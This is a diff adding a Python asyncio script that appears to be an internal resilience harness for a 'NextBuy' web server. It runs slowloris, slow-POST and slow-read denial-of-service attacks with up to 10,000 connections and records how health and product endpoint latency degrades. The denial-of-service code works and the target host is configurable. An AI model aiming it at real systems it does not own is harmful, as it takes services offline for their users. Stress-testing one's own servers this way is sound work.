@@ -0,0 +1,411 @@
+#!/usr/bin/env python3
+"""
+NextBuy Slow-HTTP Harness
+Linux-native asyncio replacement for slowhttptest_tests.bat: opens thousands
+of slow connections (slowloris headers, slow POST bodies or slow reads) and
+measures how many the server holds open and how /health and /api/products
+latency degrades for normal concurrent clients
+"""
+
+import argparse
+import asyncio
+import json
+import random
+import resource
+import socket
+import sys
+import threading
+import time
+from datetime import datetime
+
+USER_AGENT = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
+PROBE_PATHS = ["/health", "/api/products"]
+
+
+def raise_file_limit():
+    """Raise the open-file soft limit to the hard limit (each connection is a descriptor)"""
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    if hard == resource.RLIM_INFINITY or soft < hard:
+        target = hard if hard != resource.RLIM_INFINITY else 1048576
+        try:
+            resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))
+            soft = target
+        except (ValueError, OSError):
+            pass
+    return soft
+
+
+def percentile(sorted_values, p):
+    if not sorted_values:
+        return None
+    return sorted_values[min(len(sorted_values) - 1, int(p / 100 * len(sorted_values)))]
+
+
+class SlowHttpHarness:
+    def __init__(self, args):
+        self.args = args
+        self.host = args.host
+        self.port = args.port
+        self.started = None
+        self.stop = asyncio.Event()
+
+        # Attack connection accounting
+        self.open = 0
+        self.opened = 0
+        self.connect_failures = 0
+        self.closed_by_server = 0
+        self.rejected = 0
+        self.first_refusal = None
+
+        # Probe samples for the current timeline interval (written by the probe thread)
+        self.lock = threading.Lock()
+        self.probes_stopped = threading.Event()
+        self.interval_latencies = {path: [] for path in PROBE_PATHS}
+        self.interval_errors = {path: 0 for path in PROBE_PATHS}
+        self.baseline = {path: [] for path in PROBE_PATHS}
+        self.timeline = []
+
+    def elapsed(self):
+        return time.monotonic() - self.started
+
+    # ----- connections -------------------------------------------------
+
+    async def connect(self, receive_buffer=None):
+        """Open a TCP connection, optionally with a small receive window (slow read)"""
+        if receive_buffer is None:
+            return await asyncio.wait_for(
+                asyncio.open_connection(self.host, self.port),
+                timeout=self.args.connect_timeout
+            )
+
+        loop = asyncio.get_running_loop()
+        infos = await loop.getaddrinfo(self.host, self.port, type=socket.SOCK_STREAM)
+        family, _, _, _, address = infos[0]
+        sock = socket.socket(family, socket.SOCK_STREAM)
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
+        sock.setblocking(False)
+        try:
+            await asyncio.wait_for(loop.sock_connect(sock, address), timeout=self.args.connect_timeout)
+        except BaseException:
+            sock.close()
+            raise
+        # A small stream limit keeps asyncio from draining the socket on our behalf
+        return await asyncio.open_connection(sock=sock, limit=receive_buffer)
+
+    def request_head(self, method, path, extra=""):
+        return (
+            f"{method} {path} HTTP/1.1\r\n"
+            f"Host: {self.host}:{self.port}\r\n"
+            f"User-Agent: {USER_AGENT}\r\n"
+            f"Accept: */*\r\n"
+            f"{extra}"
+        )
+
+    async def slowloris(self, reader, writer):
+        """Send an unfinished header block, then one more header line per interval"""
+        writer.write(self.request_head("GET", f"/?{random.randint(0, 1 << 30)}").encode())
+        await writer.drain()
+        while not self.stop.is_set():
+            await self.sleep(self.args.header_interval)
+            writer.write(f"X-Keep-{random.randint(0, 9999)}: {random.randint(0, 9999)}\r\n".encode())
+            await writer.drain()
+
+    async def slow_body(self, reader, writer):
+        """Announce a large body, then trickle it a few bytes per interval"""
+        head = self.request_head(
+            "POST", self.args.path,
+            f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {self.args.content_length}\r\n\r\n"
+        )
+        writer.write(head.encode())
+        await writer.drain()
+        sent = 0
+        while not self.stop.is_set() and sent < self.args.content_length:
+            await self.sleep(self.args.body_interval)
+            chunk = b"a" * min(self.args.body_bytes, self.args.content_length - sent)
+            writer.write(chunk)
+            await writer.drain()
+            sent += len(chunk)
+
+    async def slow_read(self, reader, writer):
+        """Request a large response and read it at read_rate bytes per second"""
+        head = self.request_head("GET", self.args.read_path, "Connection: keep-alive\r\n\r\n")
+        while not self.stop.is_set():
+            writer.write(head.encode())
+            await writer.drain()
+            while not self.stop.is_set():
+                data = await reader.read(self.args.read_bytes)
+                if not data:
+                    raise ConnectionResetError("closed by server")
+                await self.sleep(self.args.read_bytes / self.args.read_rate)
+
+    async def sleep(self, seconds):
+        try:
+            await asyncio.wait_for(self.stop.wait(), timeout=seconds)
+        except asyncio.TimeoutError:
+            pass
+
+    async def watch_close(self, reader):
+        """Resolve when the server answers (e.g. 408) or drops an unfinished request"""
+        await reader.read()
+        raise ConnectionResetError("closed by server")
+
+    def record_refusal(self, reason):
+        if self.first_refusal is None:
+            self.first_refusal = {
+                "time": round(self.elapsed(), 2),
+                "open_connections": self.open,
+                "error": reason
+            }
+
+    async def attack_connection(self):
+        attack = {"slowloris": self.slowloris, "slowbody": self.slow_body, "slowread": self.slow_read}[self.args.mode]
+        receive_buffer = self.args.receive_buffer if self.args.mode == "slowread" else None
+        try:
+            reader, writer = await self.connect(receive_buffer)
+        except (OSError, asyncio.TimeoutError) as e:
+            self.connect_failures += 1
+            self.record_refusal(type(e).__name__)
+            return
+
+        self.open += 1
+        self.opened += 1
+        opened_at = time.monotonic()
+        try:
+            if self.args.mode == "slowread":
+                await attack(reader, writer)
+            else:
+                tasks = {asyncio.create_task(attack(reader, writer)), asyncio.create_task(self.watch_close(reader))}
+                done, pending = await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
+                for task in pending:
+                    task.cancel()
+                for task in done:
+                    task.result()
+        except (OSError, asyncio.IncompleteReadError):
+            # Accepted and dropped straight away: the server is shedding new connections
+            if time.monotonic() - opened_at < self.args.reject_window:
+                self.rejected += 1
+                self.record_refusal("closed on accept")
+            else:
+                self.closed_by_server += 1
+        finally:
+            self.open -= 1
+            writer.close()
+
+    async def ramp(self):
+        """Open connections at ramp_rate per second until the target is reached"""
+        tasks = set()
+        batch = max(1, self.args.ramp_rate // 10)
+        for launched in range(0, self.args.connections, batch):
+            if self.stop.is_set():
+                break
+            for _ in range(min(batch, self.args.connections - launched)):
+                task = asyncio.create_task(self.attack_connection())
+                tasks.add(task)
+                task.add_done_callback(tasks.discard)
+            await self.sleep(0.1)
+        return tasks
+
+    # ----- probes ------------------------------------------------------
+
+    async def probe(self, path):
+        """One normal request; returns latency in ms or None on failure"""
+        start = time.perf_counter()
+        writer = None
+        try:
+            reader, writer = await self.connect()
+            request = self.request_head("GET", path, "X-NextBuy-Test-Request: true\r\nConnection: close\r\n\r\n")
+            writer.write(request.encode())
+            await writer.drain()
+            status_line = await asyncio.wait_for(reader.readline(), timeout=self.args.probe_timeout)
+            await asyncio.wait_for(reader.read(), timeout=self.args.probe_timeout)
+            parts = status_line.split()
+            if len(parts) < 2 or not parts[1].isdigit() or int(parts[1]) >= 500:
+                return None
+            return (time.perf_counter() - start) * 1000
+        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
+            return None
+        finally:
+            if writer is not None:
+                writer.close()
+
+    async def probe_round(self, target=None):
+        requests = [(path, self.probe(path)) for path in PROBE_PATHS for _ in range(self.args.probe_concurrency)]
+        results = await asyncio.gather(*(coroutine for _, coroutine in requests))
+        with self.lock:
+            for (path, _), latency in zip(requests, results):
+                if latency is None:
+                    self.interval_errors[path] += 1
+                else:
+                    (target or self.interval_latencies)[path].append(latency)
+
+    async def probe_loop(self):
+        while not self.probes_stopped.is_set():
+            await asyncio.gather(self.probe_round(), asyncio.sleep(self.args.probe_interval))
+
+    def probe_thread(self):
+        """Probes get their own event loop so attack bookkeeping doesn't inflate their latency"""
+        asyncio.run(self.probe_loop())
+
+    async def sample_loop(self):
+        """Record one timeline row per second"""
+        print(f"\n{'t (s)':>6} {'open':>7} {'refused':>7} {'closed':>7}   " +
+              "   ".join(f"{path + ' p50/p95 (ms)':>28} {'err':>4}" for path in PROBE_PATHS))
+        while not self.stop.is_set():
+            await self.sleep(1.0)
+            row = {
+                "time": round(self.elapsed(), 1),
+                "open_connections": self.open,
+                "connect_failures": self.connect_failures,
+                "rejected_on_accept": self.rejected,
+                "closed_by_server": self.closed_by_server,
+                "probes": {}
+            }
+            with self.lock:
+                interval_latencies, self.interval_latencies = self.interval_latencies, {path: [] for path in PROBE_PATHS}
+                interval_errors, self.interval_errors = self.interval_errors, {path: 0 for path in PROBE_PATHS}
+            cells = []
+            for path in PROBE_PATHS:
+                latencies = sorted(interval_latencies[path])
+                p50, p95 = percentile(latencies, 50), percentile(latencies, 95)
+                row["probes"][path] = {"p50": p50, "p95": p95, "ok": len(latencies), "errors": interval_errors[path]}
+                text = f"{p50:.1f} / {p95:.1f}" if latencies else "-"
+                cells.append(f"{text:>28} {interval_errors[path]:>4}")
+            self.timeline.append(row)
+            print(f"{row['time']:>6.1f} {self.open:>7} {self.connect_failures + self.rejected:>7} {self.closed_by_server:>7}   " + "   ".join(cells))
+
+    # ----- run ---------------------------------------------------------
+
+    async def run(self):
+        self.started = time.monotonic()
+
+        print(f"Measuring baseline latency ({self.args.baseline}s)...")
+        deadline = time.monotonic() + self.args.baseline
+        while time.monotonic() < deadline:
+            await self.probe_round(self.baseline)
+            await asyncio.sleep(self.args.probe_interval)
+        self.interval_errors = {path: 0 for path in PROBE_PATHS}
+
+        print(f"Starting {self.args.mode}: {self.args.connections} connections at {self.args.ramp_rate}/s, holding {self.args.duration}s")
+        self.started = time.monotonic()
+        prober = threading.Thread(target=self.probe_thread, daemon=True)
+        prober.start()
+        sampler = asyncio.create_task(self.sample_loop())
+        tasks = await self.ramp()
+        await self.sleep(max(0, self.args.duration - self.elapsed()))
+
+        self.stop.set()
+        self.probes_stopped.set()
+        await sampler
+        await asyncio.to_thread(prober.join, self.args.probe_timeout * 2)
+        if tasks:
+            await asyncio.wait(tasks, timeout=5)
+        return self.summary()
+
+    def summary(self):
+        baseline = {}
+        for path in PROBE_PATHS:
+            latencies = sorted(self.baseline[path])
+            baseline[path] = {"p50": percentile(latencies, 50), "p95": percentile(latencies, 95)}
+
+        worst = {}
+        for path in PROBE_PATHS:
+            rows = [row["probes"][path] for row in self.timeline if row["probes"][path]["p95"] is not None]
+            unavailable = sum(1 for row in self.timeline if row["probes"][path]["ok"] == 0)
+            worst_p95 = max((row["p95"] for row in rows), default=None)
+            base = baseline[path]["p95"]
+            worst[path] = {
+                "worst_p95": worst_p95,
+                "degradation": round(worst_p95 / base, 1) if worst_p95 and base else None,
+                "seconds_unavailable": unavailable
+            }
+
+        return {
+            "mode": self.args.mode,
+            "target": f"{self.host}:{self.port}",
+            "timestamp": datetime.now().isoformat(),
+            "requested_connections": self.args.connections,
+            # Sampled once a second, so connections dropped on accept don't count
+            "peak_open_connections": max((row["open_connections"] for row in self.timeline), default=self.open),
+            "connections_opened": self.opened,
+            "connect_failures": self.connect_failures,
+            "closed_by_server": self.closed_by_server,
+            "rejected_on_accept": self.rejected,
+            "first_refusal": self.first_refusal,
+            "baseline": baseline,
+            "under_attack": worst,
+            "timeline": self.timeline
+        }
+
+
+def print_summary(summary):
+    print("\n" + "=" * 60)
+    print("NEXTBUY SLOW-HTTP HARNESS REPORT")
+    print("=" * 60)
+    print(f"Mode: {summary['mode']} | Target: {summary['target']}")
+    print(f"Peak sustained slow connections: {summary['peak_open_connections']} (of {summary['requested_connections']} requested)")
+    print(f"Connect failures: {summary['connect_failures']} | Rejected on accept: {summary['rejected_on_accept']} | Timed out by server: {summary['closed_by_server']}")
+    refusal = summary["first_refusal"]
+    if refusal:
+        print(f"⚠️  Server stopped accepting at t={refusal['time']}s with {refusal['open_connections']} open ({refusal['error']})")
+    else:
+        print("✅ Server accepted every connection")
+
+    for path in PROBE_PATHS:
+        base = summary["baseline"][path]
+        attack = summary["under_attack"][path]
+        base_text = f"{base['p95']:.1f}ms" if base["p95"] is not None else "-"
+        worst_text = f"{attack['worst_p95']:.1f}ms" if attack["worst_p95"] is not None else "-"
+        ratio = f" ({attack['degradation']}x)" if attack["degradation"] else ""
+        print(f"  {path}: baseline p95 {base_text} -> worst p95 {worst_text}{ratio}, unavailable {attack['seconds_unavailable']}s")
+    print("=" * 60)
+
+
+def main():
+    parser = argparse.ArgumentParser(description="NextBuy asyncio slow-HTTP harness")
+    parser.add_argument("--host", default="127.0.0.1", help="Target host")
+    parser.add_argument("--port", type=int, default=5000, help="Target port")
+    parser.add_argument("--mode", choices=["slowloris", "slowbody", "slowread"], default="slowloris", help="Attack type")
+    parser.add_argument("--connections", type=int, default=10000, help="Slow connections to open")
+    parser.add_argument("--ramp-rate", type=int, default=500, help="New connections per second")
+    parser.add_argument("--duration", type=float, default=60, help="Attack duration in seconds (including ramp-up)")
+    parser.add_argument("--connect-timeout", type=float, default=3, help="TCP connect timeout in seconds")
+    parser.add_argument("--reject-window", type=float, default=1, help="A close within this many seconds of connecting counts as a refusal")
+    parser.add_argument("--header-interval", type=float, default=10, help="Seconds between trickled header lines (slowloris)")
+    parser.add_argument("--path", default="/api/bot-protection/test", help="POST target (slowbody)")
+    parser.add_argument("--content-length", type=int, default=1048576, help="Announced body size (slowbody)")
+    parser.add_argument("--body-interval", type=float, default=10, help="Seconds between body chunks (slowbody)")
+    parser.add_argument("--body-bytes", type=int, default=16, help="Bytes per body chunk (slowbody)")
+    parser.add_argument("--read-path", default="/api/products?limit=100", help="Large response to read (slowread)")
+    parser.add_argument("--read-rate", type=float, default=32, help="Bytes per second read (slowread)")
+    parser.add_argument("--read-bytes", type=int, default=32, help="Bytes per read (slowread)")
+    parser.add_argument("--receive-buffer", type=int, default=1024, help="Socket receive buffer (slowread)")
+    parser.add_argument("--baseline", type=float, default=5, help="Seconds of probing before the attack")
+    parser.add_argument("--probe-interval", type=float, default=0.5, help="Seconds between probe rounds")
+    parser.add_argument("--probe-concurrency", type=int, default=5, help="Concurrent probes per path per round")
+    parser.add_argument("--probe-timeout", type=float, default=5, help="Probe response timeout in seconds")
+    parser.add_argument("--output", help="JSON report path (default: slow_http_results_<timestamp>.json)")
+    args = parser.parse_args()
+
+    print("NextBuy Slow-HTTP Harness")
+    print("=========================")
+    limit = raise_file_limit()
+    needed = args.connections + 2 * len(PROBE_PATHS) * args.probe_concurrency + 64
+    if limit < needed:
+        print(f"⚠️  Open-file limit is {limit}; {needed} descriptors are needed (ulimit -n {needed})")
+
+    harness = SlowHttpHarness(args)
+    try:
+        summary = asyncio.run(harness.run())
+    except KeyboardInterrupt:
+        print("\nInterrupted")
+        sys.exit(1)
+
+    print_summary(summary)
+    output = args.output or f"slow_http_results_{datetime.now().strftime('%Y%m%d_%H%M%S')}.json"
+    with open(output, "w") as f:
+        json.dump(summary, f, indent=2)
+    print(f"Detailed results saved to: {output}")
+
+
+if __name__ == "__main__":
+    main()